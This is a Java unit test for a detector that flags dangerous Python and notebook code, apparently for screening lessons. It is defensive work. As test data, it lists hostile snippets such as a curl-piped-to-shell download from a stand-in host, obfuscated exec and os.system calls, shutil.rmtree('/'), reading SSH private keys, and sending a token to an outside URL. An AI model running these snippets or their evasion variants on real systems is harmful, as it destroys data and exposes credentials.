package dev.alain.core.guard;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class DangerousCodeTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "!curl https://x.example/i.sh | sh",
                "x = !id",
                "%system id",
                "%sx id",
                "%%bash\nid",
                "%%perl\nprint 1",
                "%pip install evil-package --quiet",
                "%conda install evil",
                "pip install evil-package",
                "import os\nos.system('id')",
                "import os\nos . system ('id')",
                "import os\nos.\\\nsystem('id')",
                "from os import system; system('id')",
                "import os as o; o.system('id')",
                "import subprocess",
                "import importlib; importlib.import_module('os')",
                "__import__('os').system('id')",
                "exec ('x')",
                "(exec)('x')",
                "e = exec; e('x')",
                "ｅｘｅｃ('x')",
                "getattr(__builtins__, 'ex' + 'ec')('x')",
                "getattr( os, 'sys'+'tem')('id')",
                "import base64\nbase64.b64decode('eA==')",
                "import base64 as b\nb.decodebytes(b'eA==')",
                "get_ipython().run_line_magic('sx', 'id')",
                "from urllib.request import urlopen\nurlopen(f'https://{h}/?t=' + t)",
                "import requests\nrequests.get('https:' + '//evil.example')",
                "import requests\nrequests.get('https://x.example/p', verify=False)",
                "import shutil\nshutil.rmtree ('/')",
                "import pickle\npickle.loads(data)",
                "demo.launch(share = True)",
                "print(os.environ)",
                "print(HF_TOKEN)",
                "open('~/.ssh/id_rsa')",
                "import socket"
            })
    void isFound(String code) {
        assertThat(DangerousCode.in(code)).isNotEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "model.eval()",
                "import re\nre.compile('x')",
                "model = torch.compile(model)",
                "%matplotlib inline",
                "%%time\nx = 1",
                "x = 1  # see https://pytorch.org/docs/",
                "# https://github.com/huggingface/tokenizers",
                "# no subprocess on Colab",
                "def f():\n    \"\"\"Never use eval() on answers.\"\"\"",
                "print(\"No API_KEY is needed\")",
                "prompt = 'Summarise https://www.example.com for me'",
                "import requests\nrequests.get('http://images.cocodataset.org/val2017/1.jpg')",
                "if a != b: pass",
                "share = 0.5",
                "tokens = tokenizer(text)\nprint(tokens)",
                "df.query('x > 1')",
                "os.environ[\"TOKENIZERS_PARALLELISM\"] = \"false\"",
                "x = y % z",
                "print(f\"{score:.3f}\")"
            })
    void isNotWhatLessonsDo(String code) {
        assertThat(DangerousCode.in(code)).isEmpty();
    }
}
